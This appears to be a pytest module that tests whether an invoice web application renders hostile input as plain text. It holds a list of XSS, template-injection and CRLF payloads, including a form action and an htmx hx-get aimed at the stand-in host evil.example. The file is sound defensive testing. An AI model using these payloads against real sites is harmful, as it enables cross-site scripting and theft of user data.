"""What sources and people write into an invoice is text on its pages, stored or sent back at once, and nothing else."""

from collections.abc import Iterator

import pytest

from core.invoice import Invoice
from entrypoints.console.typed_document import document_of, paths_of
from entrypoints.container import Container
from sandbox import DEMO_ACCOUNT, Sandbox
from tests.console.people import sign_in_to
from tests.console.reader import Reader, Shown
from tests.http.clients import client_of
from tests.http.conftest import installation
from tests.http.documents import Api, business_document, invoice_document, path_of
from tests.http.test_injection import SQL, STRANGE

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-' onfocus=alert(1) autofocus='",
    "</textarea></title><script>alert(1)</script>",
    "<!--<script>",
    "&lt;b&gt;&#60;i&#62;",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% for x in y %}${7*7}#{7*7}",
    "<form action=//evil.example><button>",
    "x' hx-get='//evil.example' hx-trigger='load",
)
HOSTILE = (*MARKUP, *SQL, *(one for one in STRANGE if len(one) < 200 and one.isprintable()))
INVOICES = "/businesses/fjell/invoices"
TEXTS = sorted(path for path in paths_of(Invoice) if path not in ("number", "type", "prices_include_vat", "currency"))
_LEADS = ("href", "src", "action", "formaction", "hx-get", "hx-post")


@pytest.fixture(scope="module")
def office() -> Iterator[Sandbox]:
    with Sandbox.demo() as office:
        yield office


@pytest.fixture(scope="module")
def shared_container(office: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Container]:
    with installation(tmp_path_factory.mktemp("hostile"), office) as container:
        yield container


@pytest.fixture(scope="module")
def fjell(shared_container: Container) -> Iterator[Api]:
    with client_of(shared_container) as client:
        assert client.put("/v1/businesses/fjell", json=business_document()).status_code == 201
        yield client


@pytest.fixture(scope="module")
def reader(shared_container: Container, fjell: Api) -> Iterator[Reader]:
    with client_of(shared_container, key="") as client:
        sign_in_to(client, shared_container, "ola", {})
        yield Reader(client)


def _require_only_text(page: Shown, hostile: str) -> None:
    """Check that a page is made of what its template has, and leads nowhere but to this site."""
    assert page.status < 500, hostile
    assert "x-injected" not in page.response.headers
    assert page.tree.xpath("//script[not(@src)] | //img | //iframe | //style | //@style | //base | //object") == []
    for element in page.tree.iter():
        for name, value in element.attrib.items():
            assert not name.startswith(("on", "hx-on")), (hostile, name)
            if name in _LEADS:
                assert value.startswith(("/", "#")), (hostile, name, value)
                assert not value.startswith("//"), (hostile, name, value)
    assert "49" not in page.text("//h1") or "49" in hostile


def _stated(text: str, number: str) -> dict[str, object]:
    """Return an invoice that says this wherever it says a text."""
    amounts = ("quantity", "price", "percent", "amount", "date", "period")
    texts = {path.replace("[]", "[0]"): text for path in TEXTS if not any(word in path for word in amounts)}
    document = invoice_document(number)
    said = document_of(texts.items(), Invoice)
    (row,) = document["rows"]
    # the e-mail is what its customer is found by, and the country and the number are judged by their form
    customer = {**said["customer"], "email": "signe.haugland@post.example"}
    customer = {name: value for name, value in customer.items() if name not in ("organization_number", "address")}
    row |= said["rows"][0]
    credited = text if len(text) <= 50 and text == text.strip() else None
    return {**document, **said, "credits": credited, "rows": [row], "customer": customer, "delivery": None}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.sampled(3)
def test_what_is_stored_is_shown_as_text(reader: Reader, fjell: Api, text: str) -> None:
    number = text.strip()[:50].strip()
    document = _stated(text, number)
    if "\u200b" in text or "\u202e" in text:  # signs that nobody sees are refused in names
        document["customer"] = {"name": "Kari", "email": "kari@x.example"}
    stored = fjell.put(path_of(number), json=document)
    assert stored.status_code == 201, stored.text

    listed = reader.read(INVOICES, params={"limit": "200"})
    _require_only_text(listed, text)
    page = reader.read(listed.links[" ".join(number.split())])
    _require_only_text(page, text)
    assert page.heading == f"Invoice {' '.join(number.split())}"
    here = page.response.url.raw_path.decode()
    for below in ("edit", "edit?faults=yes", "preview", "customer", "adopt", "credit"):
        _require_only_text(reader.read(f"{here}/{below}"), text)
    form = reader.read(f"{here}/edit")
    (comment,) = form.tree.xpath("//*[@name='comment']")
    assert comment.value == text
    assert reader.press(form, "Save").told == f"Invoice {' '.join(number.split())} is stored."
    assert fjell.get(path_of(number)).json()["rows"] == stored.json()["rows"]


@pytest.mark.parametrize("text", [*HOSTILE, "\x00", "\r\nX-Injected: 1", "\ud83d"])
@pytest.mark.sampled(3)
def test_what_is_sent_back_at_once_is_text(reader: Reader, fjell: Api, text: str) -> None:
    fjell.put(path_of("reflected"), json=invoice_document("reflected"))
    text = text.encode("utf-8", "replace").decode()
    new = reader.read(f"{INVOICES}/new")
    csrf = new.text("//input[@name='csrf']/@value")
    every = {path.replace("[]", "[0]"): text for path in paths_of(Invoice)}

    for typed in (every, {**every, "do": "add_row"}, {text: "x"}, {f"rows[0].{text}": "x"}, {"do": text}):
        sent = {"csrf": csrf, "do": "save", **typed}
        for where in ("new", "new/totals", "reflected/edit"):
            _require_only_text(Shown(reader.client.post(f"{INVOICES}/{where}", data=sent)), text)
    for where, field in (("adopt", "order_id"), ("customer", "customer_id"), ("credit", "row"), ("credit", "all")):
        answer = reader.client.post(
            f"{INVOICES}/reflected/{where}", data={"csrf": csrf, field: text, f"quantity-{text}": text}
        )
        _require_only_text(Shown(answer), text)
    for where, name in (("new", "like"), ("reflected", "seen"), ("reflected", "until"), ("reflected/edit", "faults")):
        _require_only_text(reader.read(f"{INVOICES}/{where}", params={name: text}), text)


def test_names_of_records_in_the_accounting_system_are_text(reader: Reader, fjell: Api, office: Sandbox) -> None:
    books = office.account(DEMO_ACCOUNT).books
    for text in MARKUP[:5]:
        address = {"Post": {"Street": text, "PostalArea": text}}
        books.add_customer(text, type="Consumer", emails={"Primary": "two@x.example"}, addresses=address)
    fjell.put(path_of("record"), json=invoice_document("record", customer={"name": "Two", "email": "two@x.example"}))
    fjell.post(f"{path_of('record')}/send")

    for below in ("", "/customer", "/preview"):
        page = reader.read(f"{INVOICES}/record{below}")
        _require_only_text(page, "a record's name")
        assert MARKUP[0] in page.text("//main")
